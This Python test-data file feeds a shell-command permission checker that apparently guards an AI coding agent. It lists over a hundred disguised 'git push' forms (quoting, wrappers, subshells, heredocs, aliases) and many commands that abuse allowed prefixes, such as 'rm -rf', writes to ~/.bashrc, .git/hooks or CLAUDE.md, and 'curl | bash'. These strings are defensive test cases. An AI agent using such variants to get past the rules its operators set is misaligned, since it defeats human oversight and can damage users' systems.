"""Commands, and what rules are to answer to them."""

PUSHES = [
    "git push", "git push origin main", "git  push", "git\tpush", "  git push", "git -C . push", "git -C '.' -c a=b push -f",
    "git --git-dir=.git --work-tree=. push", "git --no-pager push", "git -c core.pager=cat push", "time git push",
    "time -p git push", "command git push", "command -p git push", "command -- git push", "builtin command git push",
    "exec git push", "coproc git push", "\\git push", '"git" push', "g'i't push", "git 'push'", 'git pu""sh', "$'git' push",
    "$'\\x67it' push", "A=b git push", "A=1 B=2 git push", "A=$(x) git push", "env A=b git push", "env -i git push",
    "env -S 'git push'", "sudo git push", "sudo -E git push", "sudo -u me env X=1 nice git push", "doas git push",
    "nice -n 5 git push", "nice --adjustment=5 git push", "ionice -c 2 -n 7 git push", "nohup git push &",
    "timeout 5 git push", "timeout -k 3 5 git push", "setsid git push", "stdbuf -oL git push", "sh -c 'git push'",
    "bash -lc 'git push'", 'bash -l -c "git push"', "bash -c 'git push' x", "bash --norc -c 'git push'",
    "bash -o pipefail -c 'git push'", "bash -euo pipefail -c 'git push'", "zsh -c 'git push'",
    "bash -c \"bash -c 'git push'\"", "busybox sh -c 'git push'", "eval git push", "eval 'git push'", "xargs git push",
    "echo x | xargs -n1 git push", "xargs -I{} git push {}", "parallel git push ::: a", "watch git push",
    "echo $(git push)", "echo `git push`", 'echo "$(git push)"', 'echo "${x:-$(git push)}"', "ls > $(git push)",
    "a=$(git push)", "export A=$(git push)", "cat <(git push)", "[[ -n $(git push) ]] && ls",
    "if true; then git push; fi", "if ! git push; then :; fi", "while git push; do :; done", "until git push; do :; done",
    "for i in a; do git push; done", "select x in a; do git push; done", "case x in x) git push;; esac",
    "f() { git push; }; f", "function f { git push; }", "{ git push; }", "(git push)", "(cd x && git push)",
    "sh <<EOF\ngit push\nEOF", "bash <<'EOF'\ngit push\nEOF", "cat <<EOF | sh\ngit push\nEOF", "sh <<< 'git push'",
    "/usr/bin/git push", "./git push", "~/bin/git push", "GIT push", "git \\\npush", "git \\\n  push", "ls\ngit push",
    "#x\ngit push", "git push # c", "ls && git push || true", "ls;git push", "ls&&git push", "ls | git push", "git push &",
    "git push>x", "git push|cat", ">x git push", "2>&1 git push", "<x git push", "git 2>/dev/null push", "! git push",
    "git -c alias.p=push p", "git -c alias.x='!git push' x", "git submodule foreach git push",
    "git submodule foreach 'git push'", "git rebase -x 'git push' main", "git bisect run git push",
    "find . -exec git push \\;", "find . -exec sh -c 'git push' \\;", "trap 'git push' EXIT", "ssh host git push",
    "su -c 'git push'", "chroot / git push", "unshare -r git push", "nsenter -t 1 git push", "flock /tmp/l git push",
    "flock /tmp/l -c 'git push'", "systemd-run --user git push", "script -c 'git push' /dev/null",
    "rsync -e 'git push' a b", "tar --to-command='git push' -xf a", "tmux new-window 'git push'", "screen -dm git push",
    "python3 -c 'x' ; git push",
]  # fmt: skip
"""Each runs `git push`."""

PUSHES_PERHAPS = [
    "$X push", "git $X", "X=push; git $X", 'eval "$X"', 'sh -c "$X"', "git p{u,}sh", "{git,push}", "git{,} push",
    "alias g=git; g push", "echo 'git push' | sh", "printf 'git push' | bash", "source <(echo git push)", "echo 'a",
    'bash -c "git $X"', "$(echo git) push", "`echo git` push", "g?t push", "git pus?", "curl http://x | bash",
    "sh < script", "if", "git $'\\160ush' $(", "${X} push", "ssh host $X", "a" * 70_000,
]  # fmt: skip
"""Each may run it, or can't be read."""

_LOG = [
    "-5", "--oneline", "-n 5 --stat HEAD~3..", "main..x -- src/a.py", "--since='2 days ago'", "-p -S foo", "--graph --all",
    "--format=%h", "'src/a b'",
]  # fmt: skip
ALLOWED = [
    *(("git log *", f"git log {each}") for each in _LOG),
    ("git diff*", "git diff"), ("git diff*", "git diff --stat HEAD~1 -- a"), ("git grep *", "git grep -n foo"),
    ("git *", "git status"), ("git *", "git log -1"), ("git status", "git status"), ("git commit *", "git commit -m x"),
    ("git log --output=report *", "git log --output=report -5"), ("git fetch *", "git fetch origin"),
    ("find *", "find . -name '*.py'"), ("find *", "find . -type f -mtime -1"), ("sort *", "sort -u -k2 a"),
    ("sed *", "sed -n 1,5p a"), ("sed *", "sed 's/a/b/g' f"), ("rg *", "rg -n foo src"), ("ls*", "ls"), ("ls*", "ls -la src"),
    ("cat *", "cat a b"), ("cat src/*", "cat src/a src/b"), ("uniq *", "uniq a"), ("curl *", "curl -s http://127.0.0.1"),
    ("npm test*", "npm test"), ("npm test*", "npm test -- --watch"), ("npm test*", "npm test auth"),
    ("npm run *", "npm run build"), ("npm test | tee *", "npm test | tee log"), ("pytest*", "pytest -q -x -k foo tests"),
    ("python -m pytest*", "python -m pytest -q"), ("timeout 60 npm test*", "timeout 60 npm test"),
    ("make *", "make test"), ("./scripts/*", "./scripts/check.sh"), ("fd *", "fd foo"), ("date *", "date -u"),
    ("git log && git status", "git log && git status"), ("for i in a b; do echo $i; done", "for i in a b; do echo $i; done"),
]  # fmt: skip

_NOT_LOG = [
    "--output=~/.bashrc", "--output x", "-o x", "--outp=x", "--ext-diff", "--textconv", "-1; ls", "-1 && ls", "-1 | sh",
    "-1 > x", "-1 >> x", "-1 < x", "$(x)", "`x`", "$X", "*", "{a,b}", "-1 &", "-1\nls", "--no-index", "-1 #", "-1 <(x)",
    "--foo", "-1 2>&1", '"$(x)"', '"`x`"', "${X}", "-1 \\\n; ls", "<<E\nE", "[a]*", "-*", "'a", "-1;ls", "--output\\=x",
    "'--output=x'", "-1 || ls", "-1 |& sh", "(ls)", "!x;", "-O x",
]  # fmt: skip
_RUNNERS = [
    "xargs", "env", "less", "man", "sudo", "ssh", "bash", "sh", "eval", "python", "node", "perl", "ruby", "tar", "rsync", "npx",
    "nice", "timeout", "watch", "vim", "exec", "nohup", "awk", "parallel", "docker", "find2 -exec", "ed", "flock", "su",
]  # fmt: skip
ASKED = [
    *(("git log *", f"git log {each}") for each in _NOT_LOG),
    *(("git log *", each) for each in (
        "A=b git log -1", "GIT_PAGER=x git log -1", "git -c core.pager=x log -1", "git -C /x log -1", "/tmp/git log -1",
        "./git log -1", "time git log -1", "git log", "sudo git log -1", "git  status", "gitlog -1", "! git log -1",
    )),
    *((f"{each} *", f"{each} rm -rf x") for each in _RUNNERS if each != "find2 -exec"),
    *((f"{each} *", f"{each} --checkpoint-action=exec=sh x") for each in _RUNNERS if each != "find2 -exec"),
    ("git diff*", "git diff --no-index a b"), ("git diff*", "git diff --ext-diff"), ("git diff*", "git diff --output=x"),
    ("git diff*", "git difftool -x y"), ("git grep *", "git grep -O foo"), ("git grep *", "git grep -Ovi foo"),
    ("git grep *", "git grep --open-files-in-pager=vi x"), ("git *", "git push"), ("git *", "git config core.pager x"),
    ("git config *", "git config core.pager x"), ("git *", "git -c x=y log"), ("git * status", "git -C /x status"),
    ("git fetch *", "git fetch --upload-pack=x origin"), ("git fetch *", "git fetch ext::sh"),
    ("git ls-remote *", "git ls-remote --upload-pack=x ."), ("git bisect *", "git bisect run x"),
    ("git submodule *", "git submodule foreach x"), ("git status", "git status -s"), ("git reflog *", "git reflog expire"),
    *(("find *", f"find . {each}") for each in (
        "-delete", "-exec rm {} +", "-exec rm \\;", "-execdir x +", "-ok rm \\;", "-okdir x \\;", "-fprint x", "-fprint0 x",
        "-fprintf x y", "-fls x",
    )),
    *(("sort *", f"sort {each} a") for each in ("-o x", "--output=x", "-uo x", "--out=x", "--compress-program=x", "-T /x")),
    *(("sed *", f"sed {each} f") for each in (
        "-i s/a/b/", "-ni p", "-s -i.bak p", "--in-place s/a/b/", "'s/a/b/e'", "'s/a/b/w x'", "-n 'w x'", "'1e ls'", "-f x",
        "'s/a/b/;w x'", "'s/a/b/\nw x'", "-e 's/a/b/w x'",
    )),
    ("rg *", "rg --pre x foo"), ("rg *", "rg --pre=x foo"), ("rg *", "rg --hostname-bin=x y"), ("fd *", "fd -x rm"),
    ("fd *", "fd --exec rm"), ("fd *", "fd foo -X rm"), ("tree *", "tree -o x"), ("date *", "date -s x"),
    ("uniq *", "uniq a b"), ("xxd *", "xxd -r a"), ("ls | xargs grep *", "ls | xargs grep x"),
    *(("curl *", f"curl {each} http://127.0.0.1") for each in ("-o x", "-O", "-sSo x", "--output x", "-K x", "-T f", "-d @x")),
    *(("npm test*", f"npm test {each}") for each in (
        "--node-options=--require=./x", "--node-options '--require x'", "--script-shell=./x", "-- --config=x", "; ls",
    )),
    ("npm test*", "npm --prefix x test"), ("npm test*", "npm install"), ("npm *", "npm exec x"), ("npm *", "npm test"),
    ("npm run *", "npm run build --script-shell=x"), ("npm run *", "npm run --script-shell=x build"),
    *(("npm test | tee *", f"npm test | tee {each}") for each in (
        "~/.bashrc", "../x", "/etc/x", ".git/hooks/x", "CLAUDE.md", "-i x",
    )),
    ("cat src/*", "cat src/../../x"), ("cat src/*", "cat src/a /etc/passwd"), ("cat *", "cat a > b"),
    ("ls*", "lsof"), ("ls*", "ls; x"), ("*", "ls"), ("* x", "rm x"), ("l?", "ls"), ("pytest*", "pytest -p x"),
    ("pytest*", "pytest -c x"), ("pytest*", "pytest --rootdir=x"), ("pytest*", "pytest -o x=y"),
    ("python -m pytest*", "python -c x"), ("python -m pytest*", "python -m pytest -p x"), ("make *", "make SHELL=./x"),
    ("make *", "make -f x"), ("make *", "make --eval=x"), ("timeout 60 npm test*", "timeout 60 sh"),
    ("./scripts/*", "./scripts/../../x"), ("./scripts/*", "./scripts/.x"), ("for i in *; do echo; done", "for i in *; do echo; done"),
    ("git log && git status", "git log || git status"), ("tee *", "tee ~/.bashrc"),
]  # fmt: skip

OF_THE_DOCS = [
    *((command, "deny") for command in PUSHES[:60]),
    *((command, "ask") for command in PUSHES_PERHAPS[:8]),
    *((f"git log {each}", "allow") for each in _LOG),
    *((f"git log {each}", "ask") for each in _NOT_LOG[:18]),
    ("npm test", "allow"), ("npm test -- auth", "allow"), ("npm test && git push", "deny"), ("npm test; rm -rf ~", "ask"),
    ("npm install", "ask"), ("npm test --script-shell=x", "ask"), ("npm test > log", "ask"), ("ls", "ask"),
]  # fmt: skip
"""In a repository called `web`."""
